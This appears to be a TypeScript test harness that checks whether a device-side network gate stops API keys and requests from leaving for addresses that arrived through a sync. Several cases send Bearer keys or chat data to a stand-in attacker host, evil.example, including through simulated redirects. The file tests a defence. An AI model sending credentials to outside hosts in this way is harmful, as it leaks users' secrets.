/** What leaves the device for an address, or with a key, that came by a sync, and what goes past the gate. */
import { type Destination, Gate } from '../../../src/core/gate/gate';
import { guardNetwork, type GuardedNetwork, type Network } from '../../../src/core/gate/guard-network';
import { compatible, lmStudio, memoryDevice, openai, secretsOfUser as secrets } from '../../support/memory-ports';
import { choose, type RowFigures, Tally, type Tries } from './row';

const home = 'https://api.openai.com/v1';
const evil = 'https://evil.example/v1';

type Sent = { readonly url: string; readonly key: string | null };

interface Place {
  readonly gate: Gate;
  readonly network: GuardedNetwork;
}

interface SendingCase {
  readonly id: string;
  /** What a sync, or careless code, does. */
  act(place: Place): Promise<void>;
  /** What an earlier version stored on this device. */
  readonly stored?: readonly (readonly [string, string])[];
  /** What the user would have to do before. */
  readonly allow?: (gate: Gate) => void;
}

/** Sends as the models do: what the gate admits, with the key that it gives. */
async function send({ gate, network }: Place, destination: Destination): Promise<void> {
  const admitted = gate.admit(destination);
  if (!admitted.ok) return;
  const { secret } = admitted.value;
  const headers: Record<string, string> = secret === null ? {} : { authorization: `Bearer ${secret}` };
  await network.fetch(`${destination.address}/chat`, { method: 'POST', headers, body: 'A note.' });
}

const synced = (id: string, destination: Destination): SendingCase => ({
  id,
  act: (place) => send(place, destination),
  allow: (gate) => gate.allowDestination(destination),
});

const sendingCases: readonly SendingCase[] = [
  synced('another address of a local server', { ...lmStudio, address: evil }),
  synced('another address of a provider with a key', { ...openai, address: evil }),
  synced('another port of this device, with a key', {
    ...lmStudio,
    address: 'http://localhost:6666/v1',
    keyName: 'my-key',
  }),
  synced('an address in the network', { ...lmStudio, address: 'https://192.168.1.7/v1' }),
  synced('the key of another plugin at the provider’s own address', { ...openai, keyName: 'github-token' }),
  synced('the key of another plugin at another address', { ...compatible, keyName: 'github-token' }),
  synced('a key that was never chosen here', compatible),
  {
    id: 'plain http beyond this device',
    act: (place) => send(place, { ...lmStudio, address: 'http://lan.example/v1' }),
    stored: [['provider-address-lmstudio', 'http://lan.example']],
  },
  {
    id: 'a request that asked nobody',
    act: ({ network }) => network.fetch(`${evil}/chat`, { method: 'POST', body: 'A note.' }).then(() => undefined),
    allow: (gate) =>
      void (gate.allowDestination({ ...lmStudio, address: evil }), gate.admit({ ...lmStudio, address: evil })),
  },
  {
    id: 'a key that was admitted to another address',
    act: async (place) => {
      place.gate.admit(openai);
      place.gate.allowDestination({ ...lmStudio, address: evil });
      place.gate.admit({ ...lmStudio, address: evil });
      const headers = { authorization: `Bearer ${secrets['docent-openai-key'] ?? ''}` };
      await place.network.fetch(`${evil}/chat`, { method: 'POST', headers, body: '' });
    },
  },
  {
    id: 'a prompt by the way that follows redirects unseen',
    act: async ({ gate, network }) => {
      gate.admit(openai);
      const request = { url: `${home}/chat`, method: 'POST', headers: {}, body: 'A note.', throw: false } as const;
      await network.requestUrl(request);
    },
    allow: (gate) => gate.allowBuffered(home),
  },
  {
    id: 'a redirect to another address, with a key',
    act: async (place) => {
      redirects = true;
      await send(place, openai).finally(() => (redirects = false));
    },
  },
];

/** Whether each request is answered with a redirect to another address. */
let redirects = false;

/** Follows what a browser would follow. */
function openNetwork(sent: Sent[]): Network {
  const record = (url: string, headers: Headers): void => void sent.push({ url, key: headers.get('authorization') });
  return {
    fetch: (url, init) => {
      const headers = new Headers(init.headers);
      record(url, headers);
      if (redirects && (init.redirect ?? 'follow') === 'follow') record(`${evil}/chat`, headers);
      return Promise.resolve(new Response(null, { status: 204 }));
    },
    requestUrl: ({ url, headers }) => {
      record(url, new Headers(headers));
      record(`${evil}/chat`, new Headers(headers));
      return Promise.resolve({ status: 204, headers: {}, arrayBuffer: new ArrayBuffer(0) });
    },
  };
}

/** Nothing leaves that the user of this device did not allow. The control is the same once they did. */
export async function measureSending(tries: Tries): Promise<RowFigures> {
  const tally = new Tally();
  for (const each of choose(sendingCases, tries.cases)) {
    tally.add(
      each.id,
      (await play(each)).filter((sent) => !isOwn(sent)).map(({ url, key }) => `${url} ${key ?? ''}`),
    );
    const { allow } = each;
    if (allow !== undefined && tries.alone !== true) tally.addControl((await play(each, allow)).length > 0);
  }
  return tally.figures;
}

/** A provider at its own address, with its own key or none, needs no question. */
function isOwn({ url, key }: Sent): boolean {
  return (
    url.startsWith('https://api.openai.com/') && (key === null || key.endsWith(secrets['docent-openai-key'] ?? ''))
  );
}

async function play(each: SendingCase, allow: (gate: Gate) => void = () => {}): Promise<readonly Sent[]> {
  const sent: Sent[] = [];
  const gate = new Gate({ device: memoryDevice(new Map(each.stored ?? [])), secret: (name) => secrets[name] ?? null });
  allow(gate);
  const place = { gate, network: guardNetwork(openNetwork(sent), gate) };
  // What is not admitted is thrown.
  await each.act(place).catch(() => undefined);
  return sent;
}
